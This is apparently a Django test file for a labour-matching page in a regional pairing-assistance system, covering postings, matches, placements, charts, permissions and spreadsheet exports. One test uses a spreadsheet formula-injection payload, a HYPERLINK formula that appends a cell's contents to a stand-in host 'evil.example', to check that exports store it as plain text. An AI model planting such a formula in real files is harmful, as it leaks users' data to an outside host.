"""The labour page: a western county sees its workers, its partners' postings and proposed
matches, and accepts them in bulk; another county cannot decide them."""

from __future__ import annotations

import datetime

from django.urls import reverse

from tests.labour.conftest import TODAY, posting_in
from xiezuo.labour import services
from xiezuo.labour.choices import MatchState
from xiezuo.labour.models import Match, Worker


def test_county_page_lists_and_bulk_accepts(client, members, county_user, suzhou_reporter, pairs):
    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    services.posting_create(actor=suzhou_reporter, data=posting_in(slots=2))
    services.match_run(actor=county_user, west_code="520627", today=TODAY)
    client.force_login(county_user)
    page = client.get(reverse("web:labour"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "苏州某电子有限公司" in text and "人1" in text and "结对 +40" in text
    ids = [str(pk) for pk in Match.objects.values_list("pk", flat=True)]
    response = client.post(reverse("web:labour_decide"), {"match": ids, "decision": "accept"})
    assert response.status_code == 302
    assert Match.objects.filter(state=MatchState.ACCEPTED).count() == 2


def test_another_county_cannot_decide(
    client, members, county_user, other_county_user, suzhou_reporter, pairs
):
    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    services.posting_create(actor=suzhou_reporter, data=posting_in(slots=2))
    services.match_run(actor=county_user, west_code="520627", today=TODAY)
    other_county_user.roles = ["viewer", "reporter"]
    other_county_user.save()
    client.force_login(other_county_user)
    ids = [str(pk) for pk in Match.objects.values_list("pk", flat=True)]
    response = client.post(reverse("web:labour_decide"), {"match": ids, "decision": "accept"})
    assert response.status_code in (403, 404)
    assert not Match.objects.filter(state=MatchState.ACCEPTED).exists()
    assert datetime.date.today()


def test_an_accepted_match_is_recorded_as_started_from_the_page(
    client, members, county_user, other_county_user, suzhou_reporter, pairs
):
    from xiezuo.labour.models import Placement

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    services.posting_create(actor=suzhou_reporter, data=posting_in(slots=1))
    services.match_run(actor=county_user, west_code="520627", today=TODAY)
    match = Match.objects.get()
    services.matches_decide(actor=county_user, match_ids=[match.pk], accept=True)
    client.force_login(county_user)
    page = client.get(reverse("web:labour")).content.decode()
    assert f'data-testid="match-placement-{match.pk}"' in page
    url = reverse("web:labour_match_placement", args=[match.pk])
    bad = client.post(url, {"start": "2026-13-01"}, follow=True).content.decode()
    assert "上岗日期“2026-13-01”不是日期" in bad and not Placement.objects.exists()
    # Another county neither sees the match nor records it.
    other_county_user.roles = ["viewer", "reporter"]
    other_county_user.save()
    other = client.__class__()
    other.force_login(other_county_user)
    assert other.post(url, {"start": "2026-05-02"}).status_code == 404
    assert not Placement.objects.exists()
    response = client.post(url, {"start": "2026-05-02", "proofs": ["contract"]})
    assert response.status_code == 302
    placement = Placement.objects.get()
    assert (placement.match_id, str(placement.start), placement.proofs) == (
        match.pk,
        "2026-05-02",
        ["contract"],
    )
    assert placement.organised and placement.employer == match.posting.employer
    page = client.get(reverse("web:labour")).content.decode()
    assert f'data-testid="match-placement-{match.pk}"' not in page
    assert f"?placement={placement.pk}" in page


# --- charts, stability, quarters on the index ------------------------------------------------


def _number(n: int, born: datetime.date = datetime.date(1990, 1, 1)) -> str:
    from xiezuo.registry import idnumbers

    return idnumbers.make_resident_id("520627", born, n, male=True)


def _chart(page) -> dict:  # type: ignore[no-untyped-def]
    import json
    import re

    found = re.search(
        r'<script id="labour-chart" type="application/json">(.*?)</script>', page.content.decode()
    )
    assert found, "the chart data is not on the page"
    return json.loads(found.group(1))


def test_index_charts_placements_and_stability_by_month(client, members, county_user):
    from django.utils import timezone

    from tests.labour.conftest import placement_in

    today = timezone.localdate()
    four_months_ago = _months_back(today, 4)
    services.placement_create(actor=None, data=placement_in(_number(1), start=four_months_ago))
    services.placement_create(
        actor=None,
        data=placement_in(
            _number(2, datetime.date(1985, 5, 5)),
            organiser="self",
            organiser_region="",
            start=four_months_ago,
            end=four_months_ago + datetime.timedelta(days=40),
        ),
    )
    client.force_login(county_user)
    page = client.get(reverse("web:labour"))
    assert page.status_code == 200
    text = page.content.decode()
    assert 'id="chart-placements"' in text and "xiezuo/labour.js" in text
    assert "<script>" not in text  # no inline script (CSP)
    chart = _chart(page)
    first = chart["months"].index(f"{four_months_ago:%Y-%m}")
    assert chart["started"][first] == 2
    assert chart["organised"][first] == 50.0
    assert chart["stable_3"][first] == 50.0  # one left after 40 days
    assert chart["stable_6"][first] is None  # six months not yet passed
    assert chart["on_job"][-1] == 1
    # Each placement says how long it has lasted.
    rows = text.split('data-testid="labour-placements"')[1]
    assert '<td>4</td><td>是</td><td><span class="muted">未满</span></td>' in rows


def _months_back(day: datetime.date, n: int) -> datetime.date:
    month = day.month - 1 - n
    return datetime.date(day.year + month // 12, month % 12 + 1, 1)


def test_no_chart_for_a_region_without_placements(client, members, county_user):
    client.force_login(county_user)
    text = client.get(reverse("web:labour")).content.decode()
    assert "labour-chart" not in text and "labour-charts" not in text


def test_index_shows_each_workers_latest_quarter(client, members, county_user):
    from xiezuo.labour.models import Worker

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    worker = Worker.objects.get(name="人1")
    services.employment_set(actor=None, worker=worker, year=2020, quarter=1, status="unemployed")
    services.employment_set(actor=None, worker=worker, year=2020, quarter=2, status="public")
    client.force_login(county_user)
    text = client.get(reverse("web:labour")).content.decode()
    row = text.split(f'href="/labour/workers/{worker.pk}/"')[1].split("</tr>")[0]
    assert "2020 年第 2 季度 公益性岗位" in row
    assert "未核对" in text  # 人2 has no quarter yet


# --- the posting form ------------------------------------------------------------------------


POSTING = {
    "employer": "苏州页面电子有限公司",
    "employer_code": "91110000100010433L",
    "place": "320506",
    "sector": "manufacturing",
    "wage": "5200",
    "slots": "3",
    "start": "2020-08-01",
    "east_unit": "320500",
    "age_min": "18",
    "age_max": "45",
    "dorm": "on",
}


def test_an_eastern_unit_publishes_a_posting_on_the_page(client, suzhou_reporter, pairs):
    from xiezuo.labour.models import Posting

    services.skills_sync()
    client.force_login(suzhou_reporter)
    page = client.get(reverse("web:labour"))
    assert 'data-testid="labour-posting-new"' in page.content.decode()
    response = client.post(
        reverse("web:labour_posting_new"), {**POSTING, "skills": ["K01"] if _skill() else []}
    )
    assert response.status_code == 302
    posting = Posting.objects.get(employer="苏州页面电子有限公司")
    assert (posting.place_id, posting.east_unit_id, posting.slots, posting.wage) == (
        "320506",
        "320500",
        3,
        5200,
    )
    assert posting.dorm and not posting.transport and posting.created_by == suzhou_reporter
    listed = client.get(reverse("web:labour")).content.decode()
    assert "苏州页面电子有限公司" in listed and 'data-testid="posting-close"' in listed


def _skill() -> bool:
    from xiezuo.labour.models import Skill

    return Skill.objects.filter(code="K01").exists()


def test_a_bad_posting_comes_back_with_each_error_on_its_field(client, suzhou_reporter, pairs):
    from xiezuo.labour.models import Posting

    client.force_login(suzhou_reporter)
    bad = {**POSTING, "employer": "", "employer_code": "91110000100010433X", "wage": "abc"}
    response = client.post(reverse("web:labour_posting_new"), bad)
    assert response.status_code == 400
    text = response.content.decode()
    assert 'data-testid="error-employer"' in text and "请填写用工单位" in text
    assert "月工资（元）须为整数" in text
    assert not Posting.objects.exists()
    # The form's shape is right; the service's rules name their fields too.
    response = client.post(
        reverse("web:labour_posting_new"), {**POSTING, "employer_code": "91110000100010433X"}
    )
    assert response.status_code == 400
    text = response.content.decode()
    error = text.split('data-testid="error-employer_code"')[1].split("</small>")[0]
    assert error.strip(">")  # a Chinese reason on the credit-code field
    assert not Posting.objects.exists()
    response = client.post(reverse("web:labour_posting_new"), {**POSTING, "age_min": "70"})
    assert response.status_code == 400
    assert 'data-testid="error-age_min"' in response.content.decode()
    assert not Posting.objects.exists()


def test_a_viewer_sees_no_posting_form_and_may_not_post(client, other_county_user, pairs):
    from xiezuo.labour.models import Posting

    client.force_login(other_county_user)  # viewer only
    assert (
        'data-testid="labour-posting-new"' not in client.get(reverse("web:labour")).content.decode()
    )
    response = client.post(reverse("web:labour_posting_new"), {**POSTING, "east_unit": "520602"})
    assert response.status_code == 403
    assert not Posting.objects.exists()


def test_only_the_unit_that_brought_a_posting_closes_it(
    client, members, county_user, suzhou_reporter, pairs
):
    from xiezuo.labour.choices import PostingState

    _county_pairing()  # 吴中 → 沿河: the posting lies in 沿河's partner
    posting = services.posting_create(actor=suzhou_reporter, data=posting_in())
    client.force_login(county_user)  # 沿河 sees its partner's posting, may not close it
    page = client.get(reverse("web:labour")).content.decode()
    assert "苏州某电子有限公司" in page and 'data-testid="posting-close"' not in page
    response = client.post(reverse("web:labour_posting_close", args=[posting.pk]))
    assert response.status_code == 403
    posting.refresh_from_db()
    assert posting.state == PostingState.OPEN
    client.force_login(suzhou_reporter)
    assert client.post(reverse("web:labour_posting_close", args=[posting.pk])).status_code == 302
    posting.refresh_from_db()
    assert posting.state == PostingState.CLOSED


# --- a worker's page -------------------------------------------------------------------------


def test_worker_page_sets_a_quarter_and_shows_jobs_matches_and_trainings(
    client, members, county_user, suzhou_reporter, pairs
):
    from tests.labour.conftest import placement_in
    from xiezuo.labour.models import EmploymentStatus, Worker

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    worker = Worker.objects.get(name="人1")
    services.placement_create(
        actor=None, data=placement_in(_number(1), start=datetime.date(2020, 3, 1))
    )
    _training(worker_number=_number(1))
    client.force_login(county_user)
    url = reverse("web:labour_worker", args=[worker.pk])
    text = client.get(url).content.decode()
    assert "苏州某电子有限公司" in text  # the job
    assert "沿河家政培训" in text  # the training the cooperation record lists the worker in
    assert 'data-testid="worker-quarter-form"' in text
    response = client.post(
        reverse("web:labour_worker_quarter", args=[worker.pk]),
        {"year": "2020", "quarter": "2", "status": "public"},
    )
    assert response.status_code == 302
    assert EmploymentStatus.objects.get(worker=worker, year=2020, quarter=2).status == "public"
    assert "公益性岗位" in client.get(url).content.decode()
    # Errors come back on their fields, in Chinese, and change nothing.
    response = client.post(
        reverse("web:labour_worker_quarter", args=[worker.pk]),
        {"year": "2020", "quarter": "5", "status": "boss"},
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert 'data-testid="error-quarter"' in text and "季度只能是 1–4" in text
    assert "就业状态不在可选范围内" in text
    far = f"{timezone_year() + 1}"
    response = client.post(
        reverse("web:labour_worker_quarter", args=[worker.pk]),
        {"year": far, "quarter": "4", "status": "employed"},
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert f"{far} 年第 4 季度还没有开始" in text.split('data-testid="form-error"')[1]
    assert "季度未到" in text.split('data-testid="error-quarter"')[1]
    assert EmploymentStatus.objects.filter(worker=worker).count() == 1


def timezone_year() -> int:
    from django.utils import timezone

    return timezone.localdate().year


def _county_pairing():  # type: ignore[no-untyped-def]
    from xiezuo.pairing import services as pairing_services
    from xiezuo.regions.models import Region

    return pairing_services.pairing_create(
        actor=None,
        west=Region.objects.get(code="520627"),
        east_region=Region.objects.get(code="320506"),
        start_year=2016,
    )


def _training(*, worker_number: str) -> None:
    """A training 吴中 reported for its county partner 沿河, listing the worker as a trainee."""
    from tests.factories import UserFactory
    from xiezuo.cooperation import services as cooperation
    from xiezuo.regions.models import Region

    wuzhong = Region.objects.get(code="320506")
    pairing = _county_pairing()
    reporter = UserFactory(username="wz", side="east", region_id="320506", roles=["reporter"])
    cooperation.record_create(
        actor=reporter,
        kind="training",
        pairing=pairing,
        reporter=wuzhong,
        year=2020,
        raw={
            "date": "2020-05-10",
            "training_kind": "贫困劳动力",
            "title": "沿河家政培训",
            "days": "5",
        },
        people=[cooperation.PersonIn("人1", worker_number)],
    )


def test_a_viewer_sees_a_worker_without_the_quarter_form(client, members, county_user):
    from tests.factories import UserFactory
    from xiezuo.labour.models import EmploymentStatus, Worker

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    worker = Worker.objects.get(name="人1")
    viewer = UserFactory(username="yh-viewer", side="west", region_id="520627", roles=["viewer"])
    client.force_login(viewer)
    text = client.get(reverse("web:labour_worker", args=[worker.pk])).content.decode()
    assert "人1" in text and 'data-testid="worker-quarter-form"' not in text
    response = client.post(
        reverse("web:labour_worker_quarter", args=[worker.pk]),
        {"year": "2020", "quarter": "2", "status": "public"},
    )
    assert response.status_code == 403
    assert not EmploymentStatus.objects.exists()


def test_another_countys_worker_is_not_found(client, members, county_user, other_county_user):
    from xiezuo.labour.models import Worker

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    worker = Worker.objects.get(name="人1")
    client.force_login(other_county_user)
    assert client.get(reverse("web:labour_worker", args=[worker.pk])).status_code == 404
    response = client.post(
        reverse("web:labour_worker_quarter", args=[worker.pk]),
        {"year": "2020", "quarter": "2", "status": "public"},
    )
    assert response.status_code == 404


# --- exports ---------------------------------------------------------------------------------


def _sheet(response):  # type: ignore[no-untyped-def]
    import io

    from openpyxl import load_workbook

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return [
        list(r)
        for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    ]


def test_every_list_exports_what_the_page_lists(
    client, members, county_user, other_county_user, suzhou_reporter, pairs
):
    from tests.labour.conftest import placement_in
    from xiezuo.audit.models import AuditEvent

    _county_pairing()
    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    services.posting_create(actor=suzhou_reporter, data=posting_in(slots=1))
    run = services.match_run(actor=county_user, west_code="520627", today=TODAY)
    first, *rest = run.matches.order_by("-score", "pk")
    services.matches_decide(actor=county_user, match_ids=[first.pk], accept=True)
    services.placement_create(
        actor=None,
        data=placement_in(
            _number(2, datetime.date(1985, 5, 5)),
            person_name="人2",
            start=datetime.date(2020, 1, 1),
            end=datetime.date(2020, 5, 15),
        ),
    )
    client.force_login(county_user)
    workers = _sheet(client.get(reverse("web:labour_workers_xlsx")))
    assert workers[0][:2] == ["编号", "姓名"] and {r[1] for r in workers[1:]} == {"人1", "人2"}
    postings = _sheet(client.get(reverse("web:labour_postings_xlsx")))
    assert postings[1][1] == "苏州某电子有限公司" and postings[1][8] == 1  # taken
    matches = _sheet(client.get(reverse("web:labour_matches_xlsx")))
    assert len(matches) == 1 + len(rest)
    placements = _sheet(client.get(reverse("web:labour_placements_xlsx")))
    row = dict(zip(placements[0], placements[1], strict=True))
    assert row["姓名"] == "人2" and row["已就业月数"] == 4
    assert row["3 个月稳定"] == "是" and row["6 个月稳定"] == "否"
    assert row["开始日期"].date() == datetime.date(2020, 1, 1)
    assert "1985" not in row["证件号码（隐去中间位）"]  # masked, as the page shows it
    client.force_login(suzhou_reporter)
    takers = _sheet(client.get(reverse("web:labour_takers_xlsx")))
    assert takers[1][1:3] == ["苏州某电子有限公司", first.worker.name]
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count() == 5
    # Another county's exports hold none of these rows.
    client.force_login(other_county_user)
    for name in ("workers", "matches", "placements"):
        assert len(_sheet(client.get(reverse(f"web:labour_{name}_xlsx")))) == 1, name


def test_a_formula_typed_as_an_employer_exports_as_text(client, suzhou_reporter, pairs):
    import io

    from openpyxl import load_workbook

    link = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    services.posting_create(actor=suzhou_reporter, data=posting_in(employer=link))
    client.force_login(suzhou_reporter)
    response = client.get(reverse("web:labour_postings_xlsx"))
    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert (cell.value, cell.data_type) == (link, "s")


def test_the_index_reads_in_a_fixed_number_of_queries(client, members, county_user):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.labour.conftest import placement_in

    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
    services.placement_create(
        actor=None, data=placement_in(_number(1), start=datetime.date(2020, 1, 1))
    )
    services.employment_set(
        actor=None, worker=Worker.objects.get(name="人1"), year=2020, quarter=1, status="employed"
    )
    client.force_login(county_user)
    client.get(reverse("web:labour"))
    with CaptureQueriesContext(connection) as one:
        client.get(reverse("web:labour"))
    born = datetime.date(1985, 5, 5)
    for k in range(4):
        services.placement_create(
            actor=None,
            data=placement_in(
                _number(2, born), person_name="人2", start=datetime.date(2020, 2 + k, 1)
            ),
        )
        services.employment_set(
            actor=None, worker=Worker.objects.get(name="人2"), year=2020, quarter=1 + k % 4,
            status="employed",
        )  # fmt: skip
    with CaptureQueriesContext(connection) as five:
        client.get(reverse("web:labour"))
    assert len(five) == len(one)
